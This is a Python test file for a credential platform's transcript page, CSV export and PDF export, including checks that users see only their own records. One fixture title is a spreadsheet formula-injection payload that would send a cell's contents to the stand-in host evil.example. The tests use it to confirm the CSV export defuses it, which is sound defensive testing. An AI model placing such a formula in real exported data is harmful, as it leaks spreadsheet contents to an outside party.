"""My transcript: the page, its CSV (formula injection defused) and PDF (text read back),
and who may open them."""

import csv
import io
from datetime import UTC, datetime

import pypdf
import pytest

from server.badges.issuing import Issuing
from tests.support.badges import award_one
from tests.support.factories import make_org, make_user
from tests.support.transcript import signed_award
from tests.support.web import sign_in_as

INJECTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def world(app, session):
    issuing = Issuing.from_settings(app.config["SETTINGS"])
    org = make_org(session, name="Riverbend Unified")
    teacher = make_user(
        session, "teacher", name="Maya Patel", org_id=org.id, timezone="America/Chicago"
    )
    awards = [
        signed_award(
            session,
            teacher,
            issuing=issuing,
            title="Working Memory",
            hours=2.5,
            at=datetime(2025, 3, 4, 15, tzinfo=UTC),
        ),
        signed_award(
            session,
            teacher,
            issuing=issuing,
            title=INJECTED,
            hours=1,
            at=datetime(2025, 9, 10, 15, tzinfo=UTC),
        ),
        signed_award(
            session,
            teacher,
            issuing=issuing,
            title="Executive Function",
            hours=3,
            at=datetime(2025, 10, 1, 15, tzinfo=UTC),
        ),
        signed_award(
            session,
            teacher,
            issuing=issuing,
            title="Plagiarised Fractions",
            hours=8,
            at=datetime(2025, 11, 1, 15, tzinfo=UTC),
            revoked=True,
        ),
    ]
    return {"teacher": teacher, "awards": awards, "org": org}


def test_the_page_lists_every_credential_with_totals_by_school_year(client, world):
    sign_in_as(client, world["teacher"])
    html = client.get("/transcript").get_data(as_text=True)
    for text in (
        "My transcript",
        "Working Memory",
        "Executive Function",
        "Riverbend Unified",
        "4 March 2025",
        "2024–25",
        "2025–26",
        "1 July – 30 June",
        "America/Chicago",
        "6.5",
        "Download PDF",
        "Download CSV",
    ):
        assert text in html, text
    for award in world["awards"][:3]:
        assert f'href="/badges/{award.uuid}"' in html
    # The revoked one is shown struck through, marked, and not counted.
    assert "<del>Plagiarised Fractions</del>" in html and ">revoked</span>" in html
    assert "&lt;" not in INJECTED and "=HYPERLINK(&#34;https://evil.example" in html


def test_the_empty_transcript_says_how_to_earn_a_first_credential(client, session):
    sign_in_as(client, make_user(session, "teacher"))
    html = client.get("/transcript").get_data(as_text=True)
    assert "No credentials yet" in html and 'href="/stacks"' in html
    assert "Download PDF" not in html


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_the_csv_holds_earned_credentials_with_formulas_defused(client, world):
    sign_in_as(client, world["teacher"])
    response = client.get("/transcript.csv")
    assert response.mimetype == "text/csv"
    assert 'filename="transcript.csv"' in response.headers["Content-Disposition"]
    header, *rows = _csv(response)
    assert header == [
        "date",
        "credential",
        "issuer",
        "credit_hours",
        "school_year",
        "verification_url",
    ]
    by_title = {row[1]: row for row in rows}
    assert set(by_title) == {"Working Memory", "'" + INJECTED, "Executive Function"}
    assert by_title["Working Memory"] == [
        "2025-03-04",
        "Working Memory",
        "Riverbend Unified",
        "2.5",
        "2024–25",
        f"http://localhost/badges/{world['awards'][0].uuid}",
    ]


def test_the_pdf_holds_every_credential_and_the_total(client, world):
    sign_in_as(client, world["teacher"])
    response = client.get("/transcript.pdf")
    assert response.mimetype == "application/pdf"
    reader = pypdf.PdfReader(io.BytesIO(response.data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for expected in (
        "Maya Patel",
        "District: Riverbend Unified",
        "Working Memory",
        "Executive Function",
        INJECTED,
        "4 March 2025",
        "School year 2025-26: 4 credit hours (2 credentials)",
        "School year 2024-25: 2.5 credit hours (1 credential)",
        "Total: 6.5 credit hours from 3 credentials",
    ):
        assert expected in text, expected
    for award in world["awards"][:3]:
        assert f"http://localhost/badges/{award.uuid}" in text
    assert "Plagiarised" not in text
    assert reader.metadata.title == "Credit-hour transcript of Maya Patel"
    assert reader.metadata.author == "Riverbend Unified"
    assert reader.trailer["/Root"]["/Lang"] == "en"


@pytest.mark.parametrize("path", ["/transcript", "/transcript.csv", "/transcript.pdf"])
def test_signing_in_comes_first(client, path):
    response = client.get(path)
    assert response.status_code == 303 and "/auth/sign-in" in response.headers["Location"]


def test_each_person_sees_only_their_own(client, session, world):
    sign_in_as(client, make_user(session, "admin", org_id=world["org"].id))
    assert "Working Memory" not in client.get("/transcript").get_data(as_text=True)
    assert len(_csv(client.get("/transcript.csv"))) == 1


def test_account_progress_and_award_pages_link_the_transcript(app, client, session):
    with app.app_context():
        awarded = award_one(session)
    sign_in_as(client, awarded.teacher)
    for path in ("/auth/account", "/me", f"/submissions/{awarded.award.submission_id}"):
        assert 'href="/transcript"' in client.get(path).get_data(as_text=True), path
